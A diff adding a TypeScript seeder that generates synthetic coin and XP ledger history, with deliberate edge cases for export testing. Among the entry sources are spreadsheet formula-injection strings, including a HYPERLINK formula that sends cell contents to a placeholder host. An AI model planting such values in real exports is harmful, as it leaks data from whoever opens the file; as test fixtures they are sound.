@@ -1,0 +1,294 @@
+import { textSeed } from '../random.ts';
+import type { CoinKind, EntryKind, HistoryColumns } from '../store/seededHistory.ts';
+import type { User } from '../store/userTable.ts';
+import { DEFAULT_QUALITY_NOTES } from '../userChanges.ts';
+import { fieldIdOf } from './community.ts';
+import { FIELD_KINDS, type FieldEvent, fieldEvents } from './fieldEvents.ts';
+import { ANALYST_COUNT, SPECIAL_TRADERS } from './users.ts';
+
+const DAY = 86_400_000;
+const SPAN = 730 * DAY;
+/** Of so many traders the history tells: the first of the seed. */
+export const MAX_HISTORY_TRADERS = 1200;
+/** Past the 10,000 entries that can be reached (P2 4.3). */
+const LONG_HISTORY = 12_000;
+/** Balances are summed up in these, whole, so that no rounding comes in. */
+const UNITS = 1e8;
+
+/** The seed's history, and what it leaves the traders with. */
+export interface SeedHistory {
+  readonly columns: HistoryColumns;
+  /** By place in the seed; traders behind its end have nothing. */
+  readonly coins: Float64Array;
+  readonly xp: Float64Array;
+  readonly events: readonly FieldEvent[];
+}
+
+/** `coinRows` entries of coins over two years up to `now`, somewhat fewer of XP and of fields. A matter of 100 ms. */
+export function seedHistory(users: readonly User[], coinRows: number, now: number): SeedHistory {
+  const known = users.slice(0, MAX_HISTORY_TRADERS);
+  const events = fieldEvents(known, now);
+  const xpRows = Math.floor(coinRows / 4);
+  const balanceRows = coinRows + xpRows;
+  const length = balanceRows + events.length;
+  const columns = {
+    times: new Float64Array(length),
+    traders: new Uint32Array(length),
+    kindNumbers: new Uint8Array(length),
+    amounts: new Float64Array(length),
+    changes: new Float64Array(length),
+  };
+  const sorts = [...COIN_KINDS, ...XP_KINDS];
+  const kinds = [...sorts.map(({ kind }) => kind), ...FIELD_KINDS];
+  const [coinTurn, xpTurn] = [weightedIndexes(COIN_KINDS), weightedIndexes(XP_KINDS)];
+  const draw = createUniform('history');
+  const pick = createTraderPicker(known, now - SPAN, coinRows, draw);
+  const [coins, xp] = [new Float64Array(known.length), new Float64Array(known.length)];
+  const values: [unknown, unknown][] = [];
+  let nextEvent = 0;
+  let at = 0;
+  let place = 0;
+  const addEvents = (until: number) => {
+    for (let event = events[nextEvent]; event !== undefined && event.at < until; event = events[++nextEvent]) {
+      columns.times[place] = event.at;
+      columns.traders[place] = event.trader;
+      columns.kindNumbers[place] = kinds.indexOf(event.kind);
+      columns.amounts[place] = values.push([event.value, event.storedValue]) - 1;
+      place += 1;
+    }
+  };
+  for (let row = 0; row < balanceRows; row++) {
+    // Every 40th is recorded in the same millisecond as the one before.
+    if (row % 40 !== 39) at = Math.floor(now - SPAN + ((row + draw() * 0.99) / balanceRows) * SPAN);
+    addEvents(at);
+    const isXp = row % 5 === 4;
+    const trader = isXp ? pick.any(at) : pick.forCoins(at);
+    const balances = isXp ? xp : coins;
+    const turn = isXp ? xpTurn : coinTurn;
+    let number = turn[Math.floor(draw() * turn.length)] ?? 0;
+    let sort = (isXp ? XP_KINDS : COIN_KINDS)[number];
+    const chance = draw();
+    const balance = balances[trader] ?? 0;
+    let amount = sort?.amountOf(chance) ?? 0;
+    if (sort?.effect === 'take' && Math.round(amount * UNITS) > balance) {
+      number = isXp ? FALLBACK_XP_KIND : FALLBACK_COIN_KIND;
+      sort = (isXp ? XP_KINDS : COIN_KINDS)[number];
+      amount = sort?.amountOf(chance) ?? 0;
+    }
+    const after = applyEffect(balance, sort?.effect ?? 'none', Math.round(amount * UNITS));
+    balances[trader] = after;
+    columns.times[place] = at;
+    columns.traders[place] = trader;
+    columns.kindNumbers[place] = isXp ? COIN_KINDS.length + number : number;
+    columns.amounts[place] = amount;
+    columns.changes[place] = (after - balance) / UNITS;
+    place += 1;
+  }
+  addEvents(Number.POSITIVE_INFINITY);
+  return {
+    columns: { ...columns, kinds, values },
+    coins: coins.map((units) => units / UNITS),
+    xp: xp.map((units) => units / UNITS),
+    events,
+  };
+}
+
+function applyEffect(balance: number, effect: WeightedKind['effect'], units: number): number {
+  switch (effect) {
+    case 'add':
+      return balance + units;
+    case 'take':
+      return balance - units;
+    case 'assign':
+      return units;
+    case 'none':
+      return balance;
+  }
+}
+
+/** Each place as often as its weight says. */
+function weightedIndexes(sorts: readonly WeightedKind[]): Uint8Array {
+  return Uint8Array.from(sorts.flatMap(({ weight }, number) => Array.from({ length: weight }, () => number)));
+}
+
+/** Who had joined by then and has a record of XP and coins; one trader comes as often as it takes to the long history. */
+function createTraderPicker(users: readonly User[], start: number, coinRows: number, draw: () => number) {
+  const joined = users.map(({ joinedAt, hasXpRecord }) => {
+    if (!hasXpRecord) return Number.POSITIVE_INFINITY;
+    return joinedAt === null ? start : Date.parse(joinedAt);
+  });
+  const any = (at: number) => {
+    for (let tries = 0; tries < 6; tries++) {
+      const trader = Math.floor(draw() * users.length);
+      if ((joined[trader] ?? 0) <= at && trader !== SPECIAL_TRADERS.longHistory) return trader;
+    }
+    // The analysts were there from the start.
+    return Math.floor(draw() * ANALYST_COUNT);
+  };
+  const long = Math.min(LONG_HISTORY, Math.floor(coinRows / 4));
+  let [asked, given] = [0, 0];
+  return {
+    any,
+    forCoins: (at: number) => {
+      asked += 1;
+      if (Math.floor((asked * long) / coinRows) <= given) return any(at);
+      given += 1;
+      return SPECIAL_TRADERS.longHistory;
+    },
+  };
+}
+
+/** Numbers from 0 to 1 (Mulberry32): made in nanoseconds, the same in every run. */
+function createUniform(name: string): () => number {
+  let state = textSeed(name) | 0;
+  return () => {
+    state = (state + 0x6d2b79f5) | 0;
+    let t = Math.imul(state ^ (state >>> 15), 1 | state);
+    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
+    return ((t ^ (t >>> 14)) >>> 0) / 0x1_0000_0000;
+  };
+}
+
+/** How a sort of entry moves a balance, and how often it comes. */
+interface WeightedKind {
+  readonly weight: number;
+  readonly kind: EntryKind;
+  /** Of XP and coins; `assign` sets the balance, `none` leaves it. */
+  readonly effect: 'add' | 'take' | 'assign' | 'none';
+  /** The amount, from a number between 0 and 1. */
+  readonly amountOf: (draw: number) => number;
+}
+
+const UNUSUAL_DELTA = {
+  /** `2.5e+3`. */
+  scientific: (amount: number) => amount.toExponential(),
+  /** What a sum of binary fractions looked like: `12.340000000000001`. */
+  legacy: (amount: number) => String(amount + 1e-15 * Math.max(1, amount)),
+} as const;
+
+interface CoinKindOptions {
+  readonly activity?: EntryKind['activity'];
+  readonly source?: string;
+  readonly note?: string;
+  readonly deltaOf?: CoinKind['deltaOf'];
+  readonly rawAmountOf?: CoinKind['rawAmountOf'];
+}
+
+/** Quarters of a coin from `low` to `high`. */
+const quarters = (low: number, high: number) => (draw: number) => low + Math.floor(draw * (high - low) * 4) / 4;
+const constant = (amount: number) => () => amount;
+
+/** Every operation and every quality note of P1 2.2, with amounts of every kind. */
+const COIN_KINDS: readonly WeightedKind[] = [
+  coinKind(260, 'increase', 'daily_login', 'add', quarters(1, 25), {}),
+  coinKind(140, 'increase', 'message_reward', 'add', quarters(0.25, 5), { activity: 'message' }),
+  coinKind(70, 'increase', 'reply_reward', 'add', quarters(0.25, 4), { activity: 'reply' }),
+  coinKind(60, 'increase', 'reaction_reward', 'add', quarters(0.25, 2), { activity: 'reaction' }),
+  coinKind(30, 'increase', 'social_reward', 'add', quarters(1, 10), { activity: 'social' }),
+  coinKind(150, 'increase', 'trade_reward', 'add', quarters(5, 120), { source: 'TRD-' }),
+  coinKind(40, 'increase', 'bulk_update', 'add', quarters(10, 500), { source: 'bulk ' }),
+  coinKind(120, 'decrease', 'store_purchase', 'take', quarters(10, 200), { source: 'ORD' }),
+  coinKind(20, 'decrease', 'message_removed', 'take', quarters(0.25, 5), { activity: 'message' }),
+  coinKind(15, 'decrease', 'admin_correction', 'take', quarters(1, 60), {}),
+  coinKind(15, 'overwrite', 'admin_set', 'assign', quarters(0.25, 900), {}),
+  coinKind(8, 'overwrite', 'season_reset', 'assign', constant(0), {}),
+  coinKind(25, 'expiry', 'points_expired', 'take', quarters(1, 80), { source: 'EXP/' }),
+  // An expiry that adds points: its sign is to be looked at before anything is summed up.
+  coinKind(4, 'expiry', 'points_expired', 'add', quarters(1, 40), { note: 'expiry_sign_unexpected' }),
+  coinKind(10, 'unknown', 'imported', 'add', quarters(1, 50), { source: 'legacy:' }),
+  coinKind(3, 'unknown', 'imported', 'none', constant(0), { ...invalidAmount('null') }),
+  coinKind(3, 'increase', 'imported', 'none', constant(0), { ...invalidAmount('"twelve"') }),
+  coinKind(3, 'decrease', 'imported', 'none', constant(0), { ...invalidAmount('""') }),
+  coinKind(2, 'overwrite', 'imported', 'none', constant(0), { ...invalidAmount('"1,5"') }),
+  // Movements of zero are recorded, but no export has them.
+  coinKind(6, 'increase', 'capped_reward', 'add', constant(0), {}),
+  coinKind(2, 'decrease', 'store_purchase', 'take', constant(0), { source: 'ORD' }),
+  coinKind(3, 'increase', 'season_bonus', 'add', (draw) => 1000 + Math.floor(draw * 30) * 100, {
+    deltaOf: UNUSUAL_DELTA.scientific,
+    rawAmountOf: UNUSUAL_DELTA.scientific,
+  }),
+  coinKind(2, 'increase', 'dust', 'add', constant(1e-7), {}),
+  coinKind(5, 'increase', 'migrated_reward', 'add', (draw) => 1.1 + Math.floor(draw * 400) / 100, {
+    note: 'legacy_number_precision_unverified',
+    deltaOf: UNUSUAL_DELTA.legacy,
+    rawAmountOf: UNUSUAL_DELTA.legacy,
+  }),
+  // References that a spreadsheet would read as formulas.
+  coinKind(2, 'increase', 'partner_reward', 'add', quarters(1, 20), {
+    source: '=HYPERLINK("https://traders.example/?"&A1)#',
+  }),
+  coinKind(2, 'increase', 'partner_reward', 'add', quarters(1, 20), { source: '+49 ' }),
+  coinKind(1, 'increase', 'partner_reward', 'add', quarters(1, 20), { source: '@SUM(A1:A9),' }),
+  coinKind(1, 'decrease', 'partner_claim', 'take', quarters(1, 20), { source: '-1+2;' }),
+];
+
+/** Which of them is the one with the most weight: stands in where a balance is too small to take from. */
+const FALLBACK_COIN_KIND = 0;
+
+function coinKind(
+  weight: number,
+  operation: CoinKind['operation'],
+  action: string,
+  effect: WeightedKind['effect'],
+  amountOf: WeightedKind['amountOf'],
+  extra: CoinKindOptions,
+): WeightedKind {
+  const sign = effect === 'take' ? -1 : 1;
+  const notes = [
+    ...DEFAULT_QUALITY_NOTES,
+    ...(operation === 'overwrite' ? ['absolute_overwrite_not_an_earn'] : []),
+    ...(extra.note === undefined ? [] : [extra.note]),
+  ];
+  return {
+    weight,
+    effect,
+    amountOf,
+    kind: {
+      kind: 'coin',
+      fieldId: fieldIdOf('total_coins'),
+      fieldKey: 'total_coins',
+      action,
+      activity: extra.activity ?? null,
+      coin: {
+        operation,
+        notes,
+        deltaOf: extra.deltaOf ?? ((amount) => String(sign * amount + 0)),
+        rawAmountOf: extra.rawAmountOf ?? String,
+        source: extra.source ?? null,
+      },
+    },
+  };
+}
+
+/** An amount that cannot be read: unknown, not zero. */
+function invalidAmount(raw: string): CoinKindOptions {
+  return { note: 'points_amount_invalid', deltaOf: () => null, rawAmountOf: () => raw };
+}
+
+const integers = (low: number, high: number) => (draw: number) => low + Math.floor(draw * (high - low + 1));
+
+/** Where XP comes from and goes to; also by activity (P1 2.6), taken away when a message is removed. */
+const XP_KINDS: readonly WeightedKind[] = [
+  xpKind(45, 'message_xp', 'add', integers(1, 10), 'message'),
+  xpKind(22, 'reply_xp', 'add', integers(1, 8), 'reply'),
+  xpKind(18, 'reaction_xp', 'add', integers(1, 3), 'reaction'),
+  xpKind(8, 'social_xp', 'add', integers(2, 15), 'social'),
+  xpKind(4, 'message_removed', 'take', integers(1, 10), 'message'),
+  xpKind(10, 'daily_login', 'add', integers(5, 20), null),
+  xpKind(2, 'trade_bonus', 'add', (draw) => Math.floor(draw * 4000) / 100, null),
+  xpKind(1, 'admin_correction', 'take', integers(1, 50), null),
+];
+
+/** Stands in where there is too little to take from. */
+const FALLBACK_XP_KIND = 0;
+
+function xpKind(
+  weight: number,
+  action: string,
+  effect: WeightedKind['effect'],
+  amountOf: WeightedKind['amountOf'],
+  activity: EntryKind['activity'],
+): WeightedKind {
+  const kind = { kind: 'xp', fieldId: fieldIdOf('total_xp'), fieldKey: 'total_xp', action, activity } as const;
+  return { weight, effect, amountOf, kind };
+}
